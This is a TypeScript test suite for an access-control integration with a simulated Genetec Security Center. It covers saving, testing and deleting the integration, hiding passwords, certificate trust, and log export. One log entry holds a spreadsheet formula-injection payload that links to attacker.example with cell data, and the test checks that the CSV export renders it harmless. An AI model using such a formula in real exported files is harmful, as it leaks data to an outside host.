import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ACS_MESSAGES } from '../../../contract/acsIntegration';
import { SSO_ERRORS } from '../../../contract/sso';
import { startGenetecSimulator, type GenetecSimulator } from '../../../server/demo/genetec/simulator';
import { connectorForAccount } from '../../../server/resources/acs-integration/connectors';
import { writeAcsLogs } from '../../../server/resources/acs-integration/logs';
import { selfSignedCertificate } from '../../../server/demo/genetec/simulator';
import { ADMIN, startPlatform, type ApiCaller, type TestPlatform } from '../harness';
import { expectTable, roleMatrix, scoped, type RoleMatrix } from '../permissions/roleMatrix';

const USER = { username: 'sync', password: 'Very$ecret-Passw0rd', applicationId: 'APP-1' };

let p: TestPlatform;
let m: RoleMatrix;
let admin: ApiCaller;
let sim: GenetecSimulator;
let secure: GenetecSimulator;
let contoso: number;

beforeAll(async () => {
    p = await startPlatform();
    m = await roleMatrix(p);
    admin = await p.as(ADMIN.email);
    contoso = p.demo.customers[0].id;
    sim = await startGenetecSimulator({ users: [USER], cardholders: [{ first_name: 'Ada', last_name: 'Lovelace' }] });
    secure = await startGenetecSimulator({ users: [USER], https: true });
});
afterAll(async () => {
    await sim?.close();
    await secure?.close();
    await p?.close();
});

const form = (account: number, extra: Record<string, unknown> = {}) => ({
    account_id: account,
    provider: 'genetec',
    address: sim.url,
    settings: { username: USER.username, application_id: USER.applicationId },
    secrets: { password: USER.password },
    sync_every_minutes: 15,
    enabled: true,
    ...extra,
});
const optionsOf = async (account: number) =>
    Object.fromEntries(
        ((await admin('GET', `/accounts/${account}/options`)).json().options as { name: string; value: string }[]).map(o => [
            o.name,
            o.value,
        ]),
    );

describe('the ACS integration of an account (SPEC 3, 7.2)', () => {
    it('is created by PUT /acs-integration/update, read by GET, and never shows the password', async () => {
        expect((await admin('GET', `/acs-integration?account_id=${contoso}`)).json()).toEqual({ integration: null });
        const saved = await admin('PUT', '/acs-integration/update', form(contoso));
        expect(saved.statusCode, saved.body).toBe(200);
        expect(saved.json()).toMatchObject({
            account_id: contoso,
            provider: 'genetec',
            address: sim.url,
            settings: { username: USER.username, application_id: USER.applicationId },
            password_set: true,
            sync_every_minutes: 15,
            enabled: true,
            last_sync_at: null,
        });
        const read = await admin('GET', `/acs-integration?account_id=${contoso}`);
        expect(read.json().integration).toEqual(saved.json());
        for (const body of [saved.body, read.body]) expect(body).not.toContain(USER.password);
        const audit = await admin('GET', `/audit_logs?account_id=${contoso}&resource=acsIntegration`);
        expect(audit.json().count).toBeGreaterThan(0);
        expect(audit.body).not.toContain(USER.password);
        const log = await admin('GET', `/acs-integration/logs?account_id=${contoso}`);
        expect(log.body).not.toContain(USER.password);
    });

    it('sets acs/provider and acs/enabled, which the readers route follows (SPEC 6.3)', async () => {
        expect(await optionsOf(contoso)).toMatchObject({ 'acs/enabled': 'true', 'acs/provider': 'genetec' });
        expect((await admin('GET', `/readers?account_id=${contoso}`)).statusCode).toBe(200);
        const off = await admin('PUT', '/acs-integration/update', form(contoso, { enabled: false, secrets: undefined }));
        expect(off.statusCode, off.body).toBe(200);
        expect(off.json().password_set).toBe(true);
        expect(await optionsOf(contoso)).toMatchObject({ 'acs/enabled': 'false', 'acs/provider': 'genetec' });
        expect((await admin('GET', `/readers?account_id=${contoso}`)).statusCode).toBe(403);
        // Other options are kept as they were.
        expect(await optionsOf(contoso)).toMatchObject({ 'ag/enabled': 'true' });
        expect((await admin('PUT', '/acs-integration/update', form(contoso, { secrets: {} }))).statusCode).toBe(200);
        expect((await admin('GET', `/readers?account_id=${contoso}`)).statusCode).toBe(200);
    });

    it('refuses an address that is not an http(s) Web SDK address, and a first save without a password', async () => {
        for (const address of ['ftp://sc.example/WebSdk', 'sc.example:4590', 'ldap://dc.example']) {
            const res = await admin('PUT', '/acs-integration/update', form(contoso, { address }));
            expect([address, res.statusCode, res.json().fields?.address]).toEqual([address, 400, ACS_MESSAGES.genetecAddress]);
        }
        const other = p.demo.customers[1]?.id ?? p.demo.otherCustomer.id;
        const res = await admin('PUT', '/acs-integration/update', form(other, { secrets: undefined }));
        expect([res.statusCode, res.json().fields?.['secrets.password']]).toEqual([400, ACS_MESSAGES.noPassword]);
    });

    it('tests the unsaved form: ok, refused password, unreachable server, and falls back to the stored password', async () => {
        const ok = await admin('POST', '/acs-integration/test', form(contoso));
        expect(ok.json()).toEqual({ ok: true, detail: `Connected to Security Center at ${sim.url}: 1 cardholders` });
        const stored = await admin('POST', '/acs-integration/test', form(contoso, { secrets: undefined }));
        expect(stored.json().ok).toBe(true);
        const refused = await admin('POST', '/acs-integration/test', form(contoso, { secrets: { password: 'wrong' } }));
        expect(refused.json()).toEqual({ ok: false, error: ACS_MESSAGES.refused });
        const gone = sim.url.replace(/:\d+\//, ':1/');
        const unreachable = await admin('POST', '/acs-integration/test', form(contoso, { address: gone }));
        expect(unreachable.json()).toEqual({ ok: false, error: `Cannot reach ${gone}: connection refused` });
        const directory = await admin('POST', '/acs-integration/test', {
            account_id: contoso,
            provider: 'directory',
            address: 'ldap://127.0.0.1:1',
            settings: {},
            secrets: { password: 'x' },
        });
        // a directory connector answers with its SPEC 8.5 text (the directory tests prove it against slapd)
        expect(directory.json()).toEqual({ ok: false, error: SSO_ERRORS.adConnect });
        const log = (await admin('GET', `/acs-integration/logs?account_id=${contoso}&action=test&level=error`)).json();
        expect(log.result.map((e: { message: string }) => e.message)).toContain(`Connection test failed: ${ACS_MESSAGES.refused}`);
    });

    it('never sends the stored password to another server: a new address needs the password again', async () => {
        const other = await startGenetecSimulator({ users: [USER] });
        try {
            const moved = form(contoso, { address: other.url, secrets: undefined });
            expect((await admin('POST', '/acs-integration/test', moved)).json()).toEqual({
                ok: false,
                error: ACS_MESSAGES.passwordForNewAddress,
            });
            expect(other.data.requests).toEqual([]);
            const saved = await admin('PUT', '/acs-integration/update', moved);
            expect([saved.statusCode, saved.json().fields?.['secrets.password']]).toEqual([400, ACS_MESSAGES.passwordForNewAddress]);
            expect(other.data.requests).toEqual([]);
            // Same server, another path: the stored password still applies.
            const samePlace = form(contoso, { address: `${sim.url}/`, secrets: undefined });
            expect((await admin('POST', '/acs-integration/test', samePlace)).json().ok).toBe(true);
        } finally {
            await other.close();
        }
    });

    it("trusts a self-signed https server once its certificate is the account's certificate", async () => {
        const https = form(contoso, { address: secure.url });
        const before = (await admin('POST', '/acs-integration/test', https)).json();
        expect(before.ok).toBe(false);
        expect(before.error).toContain('is not trusted');
        expect((await admin('POST', `/accounts/${contoso}/cert`, { pem: secure.certificatePem })).statusCode).toBe(200);
        expect((await admin('POST', '/acs-integration/test', https)).json()).toEqual({
            ok: true,
            detail: `Connected to Security Center at ${secure.url}: 0 cardholders`,
        });
    });

    it("gives the synchronisation the saved integration's connector, trusting the account's certificate", async () => {
        secure.data.generate(3);
        const saved = await admin('PUT', '/acs-integration/update', form(contoso, { address: secure.url }));
        expect(saved.statusCode, saved.body).toBe(200);
        const connector = (await connectorForAccount(p.ctx.db, contoso))!;
        try {
            expect((await connector.cardholders()).map(h => h.badges.length)).toEqual([1, 1, 1]);
        } finally {
            await connector.close?.();
        }
        expect(await connectorForAccount(p.ctx.db, p.demo.customers[1]!.id)).toBeUndefined();
        expect((await admin('PUT', '/acs-integration/update', form(contoso))).statusCode).toBe(200);
    });

    it('keeps CHUID settings with the integration', async () => {
        expect((await admin('GET', `/acs-integration/chuid?account_id=${contoso}`)).json()).toEqual({
            mode: 'fasc_n',
            agency_code: '',
            system_code: '',
            include_credential_series: false,
        });
        const chuid = { account_id: contoso, mode: 'fasc_n', agency_code: '1234', system_code: '0042', include_credential_series: true };
        const saved = await admin('PUT', '/acs-integration/chuid', chuid);
        expect(saved.statusCode, saved.body).toBe(200);
        const { account_id: _account, ...settings } = chuid;
        expect((await admin('GET', `/acs-integration/chuid?account_id=${contoso}`)).json()).toEqual(settings);
        const bad = await admin('PUT', '/acs-integration/chuid', { ...chuid, agency_code: '12' });
        expect([bad.statusCode, bad.json().fields?.agency_code]).toEqual([400, 'The agency code is 4 digits']);
        const none = await admin('PUT', '/acs-integration/chuid', { ...chuid, account_id: p.demo.otherCustomer.id });
        expect(none.statusCode).toBe(409);
    });

    it('is removed by DELETE /acs-integration/{id}: acs/enabled becomes false and the log keeps its lines', async () => {
        const id = (await admin('GET', `/acs-integration?account_id=${contoso}`)).json().integration.id as number;
        expect((await admin('DELETE', `/acs-integration/${id}`)).statusCode).toBe(204);
        expect((await admin('GET', `/acs-integration?account_id=${contoso}`)).json()).toEqual({ integration: null });
        expect((await optionsOf(contoso))['acs/enabled']).toBe('false');
        expect((await admin('DELETE', `/acs-integration/${id}`)).statusCode).toBe(404);
        const log = (await admin('GET', `/acs-integration/logs?account_id=${contoso}&action=delete`)).json();
        expect(log.count).toBe(1);
    });
});

describe('the integration log (GET /acs-integration/logs, /logs/export)', () => {
    const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
    let account: number;
    beforeAll(async () => {
        account = p.demo.otherCustomer.id;
        const t0 = new Date('2026-01-01T00:00:00Z').getTime();
        await writeAcsLogs(p.ctx.db, account, null, [
            ...Array.from({ length: 30 }, (_, i) => ({
                level: 'info' as const,
                action: 'added' as const,
                acs_id: `guid-${i}`,
                message: `Cardholder ${i} added`,
                at: new Date(t0 + i * 60_000),
            })),
            { level: 'error', action: 'sync', message: 'Security Center did not answer', at: new Date(t0 + 3600_000) },
            { level: 'warning', action: 'suspended', acs_id: 'guid-7', message: FORMULA, at: new Date(t0 + 7200_000) },
        ]);
        await writeAcsLogs(p.ctx.db, p.demo.dealer.id, null, [{ level: 'info', action: 'added', message: 'another account' }]);
    });

    it('pages newest first and filters by level, action, ACS ID and time range, in the one account', async () => {
        const page1 = (await admin('GET', `/acs-integration/logs?account_id=${account}&per_page=10`)).json();
        expect(page1.count).toBe(32);
        expect(page1.result).toHaveLength(10);
        expect(page1.result[0]).toMatchObject({ level: 'warning', action: 'suspended', acs_id: 'guid-7', account_id: account });
        const page4 = (await admin('GET', `/acs-integration/logs?account_id=${account}&per_page=10&page=4`)).json();
        expect(page4.result.map((e: { message: string }) => e.message)).toEqual(['Cardholder 1 added', 'Cardholder 0 added']);
        const q = (query: string) => admin('GET', `/acs-integration/logs?account_id=${account}&${query}`).then(r => r.json());
        expect((await q('level=error')).result.map((e: { message: string }) => e.message)).toEqual(['Security Center did not answer']);
        expect((await q('action=added')).count).toBe(30);
        expect((await q('acs_id=guid-7')).result.map((e: { action: string }) => e.action)).toEqual(['suspended', 'added']);
        expect((await q('date_from=2026-01-01T00:10:00Z&date_to=2026-01-01T00:19:00Z')).count).toBe(10);
        expect((await q('sort=at')).result[0].message).toBe('Cardholder 0 added');
        expect((await admin('GET', `/acs-integration/logs?account_id=${account}&sort=password`)).statusCode).toBe(400);
    });

    it('exports the filtered log as CSV, a formula written as text', async () => {
        const res = await admin('GET', `/acs-integration/logs/export?account_id=${account}&level=warning`);
        expect(res.statusCode).toBe(200);
        expect(res.headers['content-type']).toMatch(/^text\/csv/);
        expect(res.headers['content-disposition']).toMatch(/^attachment; filename="acs-integration-logs-.*\.csv"$/);
        const lines = res.body.trim().split('\n');
        expect(lines[0]).toBe('at,level,action,acs_id,profile_id,message,details');
        expect(lines).toHaveLength(2);
        expect(res.body).toContain(`'${FORMULA}`.replaceAll('"', '""'));
        expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
        const all = await admin('GET', `/acs-integration/logs/export?account_id=${account}`);
        expect(all.body.trim().split('\n')).toHaveLength(33);
    });
});

describe('rights and account scope (SPEC 6.2, DESIGN.md) for every role in its own, a descendant and an unrelated account', () => {
    it('reads the integration, its CHUID settings, its log and the certificate', async () => {
        const cert = selfSignedCertificate('scope.example').cert;
        for (const target of ['own', 'descendant', 'unrelated'] as const)
            expect((await m.asAdmin('POST', `/accounts/${m.accountFor('dealer', target)}/cert`, { pem: cert })).statusCode).toBe(200);
        expect((await m.asAdmin('POST', `/accounts/${p.mainAccountId}/cert`, { pem: cert })).statusCode).toBe(200);
        for (const url of [
            '/acs-integration?account_id=',
            '/acs-integration/chuid?account_id=',
            '/acs-integration/logs?account_id=',
            '/acs-integration/logs/export?account_id=',
        ])
            await expectTable(
                async (role, target) => (await m.call(role, 'GET', `${url}${m.accountFor(role, target)}`)).statusCode,
                scoped('acsIntegration', 'read', 200),
            );
        await expectTable(
            async (role, target) => (await m.call(role, 'GET', `/accounts/${m.accountFor(role, target)}/cert`)).statusCode,
            scoped('acsIntegration', 'read', 200),
        );
    });

    it('saves, tests and removes only where the role may write', async () => {
        await expectTable(
            async (role, target) => (await m.call(role, 'PUT', '/acs-integration/update', form(m.accountFor(role, target)))).statusCode,
            scoped('acsIntegration', 'write', 200),
        );
        await expectTable(
            async (role, target) => (await m.call(role, 'POST', '/acs-integration/test', form(m.accountFor(role, target)))).statusCode,
            scoped('acsIntegration', 'write', 200),
        );
        await expectTable(
            async (role, target) => {
                const account = m.accountFor(role, target);
                const chuid = {
                    account_id: account,
                    mode: 'fasc_n_full',
                    agency_code: '',
                    system_code: '',
                    include_credential_series: false,
                };
                return (await m.call(role, 'PUT', '/acs-integration/chuid', chuid)).statusCode;
            },
            scoped('acsIntegration', 'write', 200),
        );
        const pem = selfSignedCertificate('write.example').cert;
        await expectTable(
            async (role, target) => (await m.call(role, 'POST', `/accounts/${m.accountFor(role, target)}/cert`, { pem })).statusCode,
            scoped('acsIntegration', 'write', 200),
        );
        await expectTable(
            async (role, target) => {
                const account = m.accountFor(role, target);
                // Each case removes an integration the admin has just (re)made there.
                const made = await m.asAdmin('PUT', '/acs-integration/update', form(account));
                return (await m.call(role, 'DELETE', `/acs-integration/${made.json().id}`)).statusCode;
            },
            // An integration of an account out of reach does not exist for the caller, as every row named by its id.
            scoped('acsIntegration', 'delete', 204, 404),
        );
        await expectTable(
            async (role, target) => {
                const account = m.accountFor(role, target);
                await m.asAdmin('POST', `/accounts/${account}/cert`, { pem });
                return (await m.call(role, 'DELETE', `/accounts/${account}/cert`)).statusCode;
            },
            scoped('acsIntegration', 'delete', 204),
        );
    });
});
